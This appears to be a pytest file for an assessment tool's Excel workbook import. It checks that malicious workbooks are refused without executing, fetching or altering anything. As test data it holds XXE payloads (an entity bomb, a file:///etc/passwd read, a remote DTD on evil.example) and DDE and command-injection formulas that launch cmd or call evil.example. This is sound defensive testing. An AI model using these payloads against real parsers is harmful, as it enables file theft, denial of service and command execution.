"""Workbooks made to do harm: refused in words or told cell by cell, nothing run, nothing fetched, nothing changed."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl.workbook.workbook import Workbook

from assess.base.errors import AssessError, InputError
from assess.dossier.entities import Answer
from assess.exchange.workbook.layout import IDENTITY
from assess.session import Session

from .made import cell_of, fates, filled, proposal, sent, session_at, whys

BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    with session_at(tmp_path) as session:
        yield session


def _changed(path: Path, changes: dict[str, bytes | None]) -> Path:
    """The workbook with parts replaced, added or taken out as raw bytes."""
    with zipfile.ZipFile(path) as archive:
        parts: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (parts | changes).items():
            if data is not None:
                archive.writestr(name, data)
    path.write_bytes(file.getvalue())
    return path


def _part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name)


@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"]
)
@pytest.mark.parametrize("doctype", [BOMB, OUTSIDE, REMOTE], ids=["bomb", "file", "address"])
def test_entities_are_refused_in_every_part(session: Session, tmp_path: Path, part: str, doctype: str) -> None:
    path = sent(session, tmp_path / "a.xlsx")
    data = _part(path, part)
    at = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
    _changed(path, {part: data[:at] + doctype.encode() + data[at:]})
    with pytest.raises(InputError, match="declares entities") as caught:
        proposal(session, path)
    assert "声明了实体" in caught.value.message.zh
    assert not session.state("east").answers


@pytest.mark.parametrize("typed", [
    '=cmd|"/c calc"!A0', '=DDE("cmd";"/c calc";"x")', '=HYPERLINK("http://evil.example","yes")', "='[other.xlsx]S'!A1",
    '=WEBSERVICE("http://evil.example/")', "=1+1",
])  # fmt: skip
def test_a_formula_is_no_answer(session: Session, tmp_path: Path, typed: str) -> None:
    found = proposal(
        session, filled(sent(session, tmp_path / "a.xlsx"), {("U2", "answer"): typed, ("U4", "answer"): typed})
    )
    assert not [e for e in found.edit.entities if isinstance(e, Answer)]
    assert set(fates(found)) == {"U2", "U4"}
    assert set(fates(found).values()) == {"refused"}


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/macros/vbaProject.bin"])
def test_a_workbook_with_macros_is_refused_whatever_its_name(session: Session, tmp_path: Path, part: str) -> None:
    path = _changed(sent(session, tmp_path / "a.xlsx"), {part: b"\xd0\xcf\x11\xe0"})
    with pytest.raises(InputError, match="holds macros and was not read"):
        proposal(session, path)


def test_links_to_other_files_are_not_followed(session: Session, tmp_path: Path) -> None:
    path = filled(sent(session, tmp_path / "a.xlsx"), {("U4", "answer"): "said"})
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    _changed(path, {"xl/externalLinks/externalLink1.xml": link})
    assert fates(proposal(session, path)) == {"U4": "new"}


def test_what_stands_in_hidden_rows_and_sheets_is_read_and_shown_like_any_other(
    session: Session, tmp_path: Path
) -> None:
    def hide(book: Workbook) -> None:
        cell = cell_of(book, "U2", "answer")
        cell.parent.row_dimensions[cell.row].hidden = True
        cell_of(book, "R1", "answer").parent.sheet_state = "veryHidden"

    path = filled(sent(session, tmp_path / "a.xlsx"), {("U2", "answer"): 5, ("R1", "answer"): "done"}, hide)
    assert fates(proposal(session, path)) == {"R1": "new", "U2": "new"}


def test_a_question_that_stands_twice_is_not_answered_by_chance(session: Session, tmp_path: Path) -> None:
    def double(book: Workbook) -> None:
        cell = cell_of(book, "U2", "answer")
        last = cell.parent.max_row + 1
        for other in cell.parent[cell.row]:
            cell.parent.cell(last, other.column).value = other.value
        cell.parent.cell(last, cell.column).value = 9

    found = proposal(session, filled(sent(session, tmp_path / "a.xlsx"), {("U2", "answer"): 5}, double))
    assert not [e for e in found.edit.entities if isinstance(e, Answer)]
    assert "U2" in whys(found)


@pytest.mark.parametrize("identity", [
    "", "null", "[]", "{}", "{" * 100_000, '{"format": 1}', '{"format": "1"}', '{"format": 1e400}', "\\u0000", "=1+1",
])  # fmt: skip
def test_a_hidden_sheet_that_says_nonsense_is_refused(session: Session, tmp_path: Path, identity: str) -> None:
    def spoil(book: Workbook) -> None:
        book[IDENTITY].cell(1, 1).value = identity[:32_000]

    with pytest.raises(InputError):
        proposal(session, filled(sent(session, tmp_path / "a.xlsx"), {}, spoil))


@pytest.mark.parametrize(
    ("field", "value"),
    [("campaign", "other"), ("pack", "other"), ("campaign", "\u202eevil\n"), ("pack", "x" * 9999)],
)
def test_a_form_of_another_campaign_is_refused_in_one_line(
    session: Session, tmp_path: Path, field: str, value: str
) -> None:
    def alter(book: Workbook) -> None:
        cell = book[IDENTITY].cell(1, 1)
        cell.value = json.dumps({**json.loads(str(cell.value)), field: value})

    with pytest.raises(InputError) as caught:
        proposal(session, filled(sent(session, tmp_path / "a.xlsx"), {}, alter))
    assert "\n" not in caught.value.message.en
    assert "\u202e" not in caught.value.message.en
    assert len(caught.value.message.en) < 300


@pytest.mark.parametrize(
    "typed", ["9" * 400, "-1e999", "nan", "∞", "\u202e5", "１２\u0660", True, "5\x7f", " " * 30_000]
)
def test_no_trick_with_numbers_becomes_an_answer_in_silence(
    session: Session, tmp_path: Path, typed: object
) -> None:
    found = proposal(session, filled(sent(session, tmp_path / "a.xlsx"), {("U2", "answer"): typed}))
    for entity in found.edit.entities:
        assert isinstance(entity, Answer)
        assert isinstance(entity.value, float)
        assert 0 <= entity.value <= 1_000_000
        assert "U2" in whys(found), "what was read is told"


@pytest.mark.parametrize("parts", [
    {"xl/worksheets/sheet2.xml": None}, {"xl/workbook.xml": b""}, {"xl/workbook.xml": b"<workbook/>"},
    {"[Content_Types].xml": None}, {"xl/sharedStrings.xml": b"<sst/>"}, {"xl/_rels/workbook.xml.rels": None},
    {"xl/worksheets/sheet2.xml": b"<worksheet>" * 5_000}, {"xl/worksheets/sheet2.xml": b"\xff\xfe\x00"},
])  # fmt: skip
def test_a_workbook_without_its_parts_ends_in_a_sentence(
    session: Session, tmp_path: Path, parts: dict[str, bytes | None]
) -> None:
    path = _changed(filled(sent(session, tmp_path / "a.xlsx"), {("U2", "answer"): 5}), parts)
    try:
        found = proposal(session, path)
    except AssessError as error:
        assert error.message.zh
        assert error.message.en
    else:
        assert {e.value for e in found.edit.entities if isinstance(e, Answer)} <= {5.0}
